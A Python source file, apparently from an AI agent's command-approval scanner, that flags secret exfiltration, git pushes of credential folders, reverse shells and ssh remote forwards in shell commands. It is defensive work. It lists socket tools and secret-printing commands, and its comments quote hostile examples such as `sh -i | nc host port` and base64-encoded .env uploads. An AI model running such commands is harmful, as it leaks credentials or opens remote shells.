"""Secrets leaving the machine, as a Scanner mixin: sources (credential files, the environment, secret
variables, gpg --export-secret-keys, token-printing CLIs, files and variables that earlier commands
filled from those) and sinks (any network client: HTTP, raw sockets, ssh/scp/rsync, DNS and ICMP
tools, cloud and gist uploads, git pushes of secret folders). Also reverse shells built from a shell
and a socket client in one pipeline, and remote port forwards. Pure string work."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import TYPE_CHECKING

from hermes_agent.approval.rules.canonical import SHELLS, basename
from hermes_agent.approval.rules.exposure import READERS, curl_config, sensitive_upload, upload_sources
from hermes_agent.approval.rules.interp import sends_network
from hermes_agent.approval.rules.lazyre import lazy
from hermes_agent.approval.rules.lexer import QVAR, VAR
from hermes_agent.approval.rules.targets import classify_read

if TYPE_CHECKING:
    from collections.abc import Callable

    from hermes_agent.approval.rules.canonical import Unwrapped
    from hermes_agent.approval.rules.expand import ShellEnv
    from hermes_agent.approval.rules.flows import Cmd

# A raw socket or an upload call handed a file's bytes: s.send(open(p, 'rb').read()), sendfile(), files={'f': open(...)}.
_CODE_SENDS_FILE = lazy(r"\b(?:send|sendall|sendfile|post|put|upload\w*)\s*\([^()]*(?:\bopen\s*\([^()]*\)\s*"
                        r"(?:\.\s*read\s*\(\s*\))?|read_bytes\s*\(\s*\)|read_text\s*\(\s*\)|readFileSync\s*\()|"
                        r"\bsendfile\s*\(|\bfiles\s*=\s*\{[^{}]*\bopen\s*\(")
EXFILTRATION = ("exfiltration", "send secrets, the environment or files from outside the workspace over the network", False)
SECRET_PUSH = ("secret_push", "commit and push secret files (keys, credentials, .env) with git", False)
REVERSE_SHELL = ("reverse_shell", "network shell: a shell wired to a socket client in one pipeline", False)
REMOTE_FORWARD = ("remote_forward", "open a port on a remote host into this machine (ssh -R)", False)
_SECRET_NAME = lazy(r"(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|PAT|CREDENTIALS?|AUTH|COOKIE|SESSION|PRIVATE|DSN)(?:_|\Z)"
                          r"|\A(?:DATABASE_URL|PGPASSWORD|MYSQL_PWD)\Z")
_VAR_REF = lazy(f"[{VAR}{QVAR}]" + r"[#!]?([A-Za-z_]\w*)")
_SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat"})
_NET_TOOLS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "whois", "mtr"})
NET_CAPABLE = frozenset({"npm", "npx", "pnpm", "pnpx", "yarn", "bun", "bunx", "cnpm", "pip", "pip3", "uv", "uvx", "pipx",
                         "poetry", "pdm", "conda", "mamba", "cargo", "gem", "bundle", "go", "composer", "mvn", "gradle",
                         "dotnet", "nuget", "brew", "apt", "apt-get", "git", "hg", "svn", "docker", "podman", "kubectl",
                         "helm", "terraform", "deno", "wrangler", "vercel", "netlify", "heroku", "fly", "flyctl"})
_CLOUD_CLIS = frozenset({"gh", "aws", "gsutil", "rclone", "s3cmd", "az", "gcloud"})
# commands that print secrets: (name, predicate over args)
_GIT_SECRET_NAME = lazy(r"(?:^|/)(?:\.env(?:\.(?!example\Z|sample\Z|template\Z|dist\Z|defaults\Z)[\w.-]+)?|secrets?|credentials?|creds|private|keys?|id_\w+|[\w.-]+\.(?:pem|key|p12|pfx|kdbx))/?\Z", re.I)
# vendor words in a variable name that say where the secret is meant to go
_VENDORS = {"GITHUB": "github", "GH": "github", "GITLAB": "gitlab", "OPENAI": "openai", "ANTHROPIC": "anthropic",
            "OPENROUTER": "openrouter", "HF": "huggingface", "HUGGINGFACE": "huggingface", "STRIPE": "stripe",
            "SLACK": "slack", "DISCORD": "discord", "TELEGRAM": "telegram", "NPM": "npmjs", "PYPI": "pypi", "DOCKER": "docker",
            "CLOUDFLARE": "cloudflare", "CF": "cloudflare", "SENTRY": "sentry", "GOOGLE": "google", "GEMINI": "google",
            "AWS": "amazonaws", "AZURE": "azure", "DIGITALOCEAN": "digitalocean", "VERCEL": "vercel", "NETLIFY": "netlify",
            "TWILIO": "twilio", "SENDGRID": "sendgrid", "MISTRAL": "mistral", "GROQ": "groq", "DEEPSEEK": "deepseek",
            "FIRECRAWL": "firecrawl", "TAVILY": "tavily", "EXA": "exa", "BRAVE": "brave", "JIRA": "atlassian",
            "CIRCLECI": "circleci", "HEROKU": "heroku", "LINEAR": "linear", "NOTION": "notion"}
_GIT_SECRET_KEY = lazy(r"credential|token|password|secret|extraheader|\burl\b", re.I)
_HOST = lazy(r"[a-zA-Z][\w+.-]*://(?:[^@/\s]*@)?([^/:?#\s]+)")


def prints_secret(u: Unwrapped) -> bool:
    """gpg --export-secret-keys, gh auth token, pass, security -w, cloud CLIs printing tokens, kubectl get secret."""
    name, args = u.name, u.args
    if name == "history" or (name == "fc" and "-l" in args):  # typed commands hold tokens and passwords
        return not any(a.startswith("-") and a != "-l" for a in args)
    if name in ("gpg", "gpg2"):
        return any(a.startswith("--export-secret") for a in args)
    if name == "gh":
        return args[:2] == ["auth", "token"] or (args[:2] == ["auth", "status"] and ("-t" in args or "--show-token" in args))
    if name == "pass":
        return bool(args) and args[0] not in ("ls", "list", "find", "search", "init", "git", "help", "version", "insert",
                                              "edit", "generate", "rm", "mv", "cp", "grep")
    if name == "security":
        return bool(args) and args[0].startswith("find-") and args[0].endswith("password") and ("-w" in args or "-g" in args)
    if name == "aws":
        return args[:2] in (["configure", "get"], ["configure", "export-credentials"]) or args[:2] == ["sts", "get-session-token"]
    if name == "gcloud":
        return "print-access-token" in args or "print-identity-token" in args
    if name == "az":
        return args[:2] == ["account", "get-access-token"]
    if name in ("docker", "podman") and args[:1] in (["inspect"], ["container"]):  # each container's environment
        return "inspect" in args[:2]
    if name in ("kubectl", "oc"):
        return args[:1] == ["get"] and any(a in ("secret", "secrets") or a.startswith("secret/") for a in args[1:3]) or \
            args[:2] == ["config", "view"] and ("--raw" in args or "--flatten" in args)
    if name == "git":  # the credential helper's answer; settings that hold tokens (credential.*, extraheader, URLs)
        return args[:2] == ["credential", "fill"] or args[:1] == ["credential-fill"] or args[:1] == ["config"] and (
            any(a in ("-l", "--list", "list") for a in args[1:3]) or any(a.startswith("--get") or a == "get" for a in args)
            and any(_GIT_SECRET_KEY.search(a) for a in args[1:]))
    if name in ("op", "bw", "secret-tool", "gopass", "heroku", "doctl"):  # password managers, platform tokens
        return args[:1] in (["read"], ["get"], ["lookup"], ["show"], ["auth:token"]) or args[:2] in (["item", "get"], ["auth", "token"])
    if name == "vault":
        return args[:1] == ["read"] or args[:2] == ["kv", "get"]
    return False


def secret_vars(u: Unwrapped, env: ShellEnv) -> list[str]:
    """Variables with secret values (by name, or filled from a secret earlier) that the command's words expand."""
    out = []
    for w in u.words:
        if w is None or (VAR not in w.text and QVAR not in w.text):
            continue
        for name in _VAR_REF.findall(w.text):
            if _SECRET_NAME.search(name) or name in env.tainted:
                out.append(name)
    return out


def _meant_for(var: str, args: list) -> bool:
    """A vendor-named token sent to that vendor's own host (GITHUB_TOKEN to api.github.com)."""
    parts = var.split("_")
    vendor = next((_VENDORS[p] for p in parts if p in _VENDORS), None)
    hosts = [m.group(1).lower() for a in args for m in _HOST.finditer(a)]
    return bool(vendor) and bool(hosts) and all(vendor in h for h in hosts)


def _holds(path: str, tainted: set) -> bool:
    """`path` is a tainted file, lies inside a tainted folder, or is a folder holding one."""
    p = path.rstrip("/") or "/"
    return any(p == t or p.startswith(t + "/") or t.startswith(p + "/") for t in (x.rstrip("/") for x in tainted if x != "git:staged"))


_HISTORY_FILE = lazy(r"(?:^|/)(?:\.\w*_history|\.zhistory|\.histfile|fish_history|\.lesshst|\.viminfo)\Z")
_BATCH_CLIENTS = frozenset({"sftp", "ftp", "lftp", "smbclient", "tftp", "ncftp", "ncftpput", "curlftpfs"})
_BATCH_PUT = lazy(r"(?:^|[;\n])\s*(?:m?put|reput|append|send|mirror\s+(?:-\S+\s+)*-R)\s+(?:-\S+\s+)*([^\s;]+)")
_DOTENV = lazy(r"(?:^|/)\.env(?:\.(?!example\Z|sample\Z|template\Z|dist\Z|defaults\Z)[\w.-]+)?\Z")
# folders that hold credentials (a repository at or above one of them holds them too)
_SECRET_HOMES = ("~/.ssh", "~/.aws", "~/.gnupg", "~/.config/gh", "~/.config/gcloud", "~/.kube", "~/.docker/config.json",
                 "~/.netrc", "~/.git-credentials", "~/.hermes", "~/.password-store", "~/.local/share/keyrings", "~/.azure")
_COPIERS = frozenset({"cp", "mv", "rsync", "install", "tar", "zip", "7z", "gpg"})


class LeakChecks:
    """Mixin for Scanner (listed before FlowChecks): uses its add() and path()."""

    add: Callable[..., None]
    path: Callable[[str, ShellEnv], str]

    def taint_assignments(self, words: list, sub_traits: dict, env: ShellEnv) -> None:
        """NAME=$(cat ~/.ssh/id_rsa) / NAME=$OPENAI_API_KEY: NAME now holds a secret; so does a loop variable
        over one (`for k in $(env | base32)`, rt13 a34)."""
        texts = [w.text for w in words]
        if len(texts) > 3 and texts[0] == "for" and texts[2] == "in" and any(
                "@secret" in sub_traits.get(id(w), ()) or any(_SECRET_NAME.search(v) or v in env.tainted
                                                             for v in _VAR_REF.findall(w.text)) for w in words[3:]):
            env.tainted.add(texts[1])
        for w in words:
            name, eq, value = w.text.partition("=")
            if not eq or not re.fullmatch(r"[A-Za-z_]\w*\+?", name):
                continue
            if "@secret" in sub_traits.get(id(w), ()) or any(
                    _SECRET_NAME.search(v) or v in env.tainted for v in _VAR_REF.findall(value)):
                env.tainted.add(name.rstrip("+"))

    def leaks(self, u: Unwrapped, cmd: Cmd, redirects: list, sub_traits: dict, env: ShellEnv) -> None:
        """Secret sources and network sinks of one canonical command."""
        refs = secret_vars(u, env)
        if u.name in READERS and any(_DOTENV.search(a) or _HISTORY_FILE.search(a) for a in u.args if not a.startswith("-")):
            cmd.secret = True  # the project's .env, shell history: reading them is ordinary, sending them is not
        if prints_secret(u) or (refs and u.name in ("echo", "printf", "cat", "base64", "xxd", "tee")):
            cmd.secret = True
        if u.code and u.code[0] != "sql" and sends_network(u.code[1]):
            cmd.sends = True
            if _CODE_SENDS_FILE.search(u.code[1]):
                self.add("exfiltration", "send a file's contents over the network from interpreter code", False)
        cloud = u.name in _CLOUD_CLIS  # the vendor's own CLI: only the local files it uploads matter
        if cmd.sends or u.name in _NET_TOOLS or cloud:
            cmd.sends = True
            if not cloud and refs and not all(_meant_for(v, u.args) for v in refs):
                self.add(*EXFILTRATION)
            if not cloud and any("@secret" in t for t in sub_traits.values()):
                self.add(*EXFILTRATION)
            for p in [*upload_sources(u), *_cloud_uploads(u), *_config_uploads(u, redirects, env)]:
                q = self.path(p, env)
                if p != "-" and (_holds(q, env.tainted) or sensitive_upload(q)):
                    self.add(*EXFILTRATION)
            if u.name in _SOCKETS and any(op in ("<", "<>") and self.path(t, env) in env.tainted for op, t in redirects):
                self.add(*EXFILTRATION)
        elif u.name in NET_CAPABLE or any(_HOST.search(a) for a in u.args):
            # any program that can reach the network (package managers, VCS, containers) or is handed a URL:
            # secret file contents in its own arguments leave with it (npm view --registry http://H/$(base64 .env)/)
            if any("@secret" in sub_traits.get(id(w), ()) for w in u.words if w is not None):
                self.add(*EXFILTRATION)
            in_url = [v for w, a in zip(u.words, u.args, strict=False) if w is not None and _HOST.search(a)
                      for v in _VAR_REF.findall(w.text) if v in refs]  # xdg-open "https://h/?t=$GITHUB_TOKEN"
            if in_url and not all(_meant_for(v, u.args) for v in in_url):
                self.add(*EXFILTRATION)
            cmd.sends = True  # and what a pipe feeds it (cat .env | npm ...)
        if u.name in ("cat", "tac", "head", "tail", "xxd", "base64", "od") and env.tainted and any(
                _holds(self.path(a, env), env.tainted) for a in u.args if not a.startswith("-")):
            cmd.secret = True
        if u.name == "ssh" and any(a == "-R" or (a.startswith("-") and not a.startswith("--") and "R" in a[1:]) for a in u.args):
            self.add(*REMOTE_FORWARD)
        if u.name in _BATCH_CLIENTS:
            self._batch_uploads(u, redirects, env)
        self._secret_files(u, cmd, redirects, env)
        if u.name == "git":
            self._git(u, env)

    def _batch_uploads(self, u: Unwrapped, redirects: list, env: ShellEnv) -> None:
        """sftp/ftp/lftp/smbclient commands given on stdin or with -c/-e: `put ~/.ssh/id_rsa` sends that file."""
        script = [t for op, t in redirects if op in ("<<<", "<<", "<<-")]
        script += [" ".join(u.args[k + 1:]) for k, a in enumerate(u.args[:-1]) if a in ("-c", "-e")]  # tftp -c put F
        for text in script:
            for m in _BATCH_PUT.finditer(text):
                q = self.path(m.group(1), env)
                if _holds(q, env.tainted) or sensitive_upload(q) or classify_read(q):
                    self.add(*EXFILTRATION)
                    return

    def _secret_files(self, u: Unwrapped, cmd: Cmd, redirects: list, env: ShellEnv) -> None:
        """Files that now hold secrets: stdout of a secret source, copies and archives of credential files."""
        if cmd.secret:
            env.tainted.update(self.path(t, env) for op, t in redirects if op in (">", ">>", "&>", "&>>", ">|"))
        if u.name not in _COPIERS:
            return
        operands = [a for a in u.args if not a.startswith("-")]
        if u.name in ("cp", "mv", "rsync", "install") and len(operands) >= 2:
            if any(classify_read(self.path(a, env)) or _DOTENV.search(a) or self.path(a, env) in env.tainted for a in operands[:-1]):
                env.tainted.add(self.path(operands[-1], env))
        elif u.name in ("tar", "zip", "7z", "gpg") and operands:
            out = _archive_output(u)
            if out and any(classify_read(self.path(a, env)) or self.path(a, env) in env.tainted for a in operands):
                env.tainted.add(self.path(out, env))

    def _git(self, u: Unwrapped, env: ShellEnv) -> None:
        """git add of secret files (or of everything inside or above a secret folder), then git push."""
        sub, rest = (u.args[0], u.args[1:]) if u.args else ("", [])
        here = (u.workdir or env.cwd or "").rstrip("/")
        secret_dir = bool(here) and (classify_read(here) is not None or _holds(here, env.tainted)
                                     or any(s == here or s.startswith(here + "/") for s in _SECRET_HOMES))
        if sub == "add":
            paths = [a for a in rest if not a.startswith("-")]
            everything = any(a in ("-A", "--all") for a in rest) or any(p in (".", "*", ":/") for p in paths)
            if secret_dir and everything:
                env.tainted.add("git:staged")
            for p in paths:
                q = self.path(p, env)
                if classify_read(q) or _holds(q, env.tainted) or _GIT_SECRET_NAME.search(p.rstrip("/")) \
                        or any(s == q.rstrip("/") or s.startswith(q.rstrip("/") + "/") for s in _SECRET_HOMES if q.startswith("~")):
                    env.tainted.add("git:staged")
        elif sub == "push" and ("git:staged" in env.tainted or secret_dir):
            self.add(*SECRET_PUSH)

    def pipe_taint(self, sink: Cmd, upstream: list, env: ShellEnv) -> None:
        """Secrets flowing down a pipe land in what the sink keeps: `| tee FILE`, `| while read VAR`."""
        if not any(c.secret for c in upstream):
            return
        sink.secret = True  # a filter (base64, xxd, gzip...) passes the secret on
        if sink.name == "tee":
            env.tainted.update(self.path(a, env) for a in sink.args if not a.startswith("-"))
        elif sink.name == "read":
            env.tainted.update(a for a in sink.args if not a.startswith("-"))

    def sockets_and_shells(self, cmds: list) -> None:
        """`sh -i | nc host port`, `nc host port | sh`, `telnet h p | sh | telnet h q`: a network shell."""
        names = [c.name for _, c in cmds if c is not None]
        if any(n in SHELLS or n in ("python", "perl", "ruby", "php") for n in names) and any(n in _SOCKETS for n in names):
            self.add(*REVERSE_SHELL)


def _cloud_uploads(u: Unwrapped) -> list[str]:
    """Local files an object-store, gist or release command sends."""
    args = [a for a in u.args if not a.startswith("-")]
    if u.name == "aws" and args[:2] in (["s3", "cp"], ["s3", "mv"], ["s3", "sync"]) and len(args) >= 4:
        return [a for a in args[2:-1] if "://" not in a] if "://" in args[-1] else []
    if u.name in ("gsutil", "s3cmd") and len(args) >= 3 and args[0] in ("cp", "mv", "rsync", "put", "sync") and "://" in args[-1]:
        return [a for a in args[1:-1] if "://" not in a]
    if u.name == "rclone" and len(args) >= 3 and args[0] in ("copy", "sync", "move", "copyto") and ":" in args[-1]:
        return args[1:-1]
    if u.name == "az" and args[:2] == ["storage", "blob"] and args[2:3] in (["upload"], ["upload-batch"]) or \
            u.name == "az" and args[:3] == ["storage", "file", "upload"]:
        opts = u.args
        return [opts[i + 1] for i, a in enumerate(opts[:-1]) if a in ("-f", "--file", "--source", "-s")]
    if u.name == "gh" and args[:2] == ["gist", "create"]:
        return args[2:]
    if u.name == "gcloud" and args[:1] == ["storage"] and args[1:2] in (["cp"], ["mv"], ["rsync"]) and "://" in args[-1]:
        return [a for a in args[2:-1] if "://" not in a]
    if u.name == "aws" and any(a.startswith(("file://", "fileb://")) for a in u.args):  # any parameter's value
        return [a.split("://", 1)[1] for a in u.args if a.startswith(("file://", "fileb://"))]
    if u.name == "gh" and args[:2] == ["release", "upload"]:
        return args[3:]
    return []


def _config_uploads(u: Unwrapped, redirects: list, env: ShellEnv) -> list[str]:
    """What `curl -K FILE` (`--config`) uploads, from a config file this text wrote (printf ... > FILE) or fed on
    stdin (`-K -` with a heredoc): `data = "@.env"` in it sends .env (rt13 a43)."""
    if u.name not in ("curl", "curlie"):
        return []
    args, out = u.args, []
    files = [args[k + 1] for k, a in enumerate(args[:-1]) if a in ("-K", "--config")]
    files += [a.split("=", 1)[1] for a in args if a.startswith("--config=")] + [a[2:] for a in args if a.startswith("-K") and len(a) > 2]
    for f in files:
        texts = [t for op, t in redirects if op in ("<<", "<<<", "<<-")] if f == "-" else \
            [env.files.get(basename(f).lower()) or ""]
        for text in texts:
            out += upload_sources(replace(u, args=curl_config(text)))
    return out


def _archive_output(u: Unwrapped) -> str | None:
    if u.name == "tar" and u.args and not u.args[0].startswith("-") and "f" in u.args[0] and len(u.args) > 1:
        return u.args[1]  # old-style bundled flags: tar czf OUT ...
    for k, a in enumerate(u.args[:-1]):
        if a in ("-f", "--file", "-o", "--output") or (u.name == "tar" and a.startswith("-") and not a.startswith("--") and a.endswith("f")):
            return u.args[k + 1]
    if u.name == "zip":
        operands = [a for a in u.args if not a.startswith("-")]
        return operands[0] if operands else None
    return None

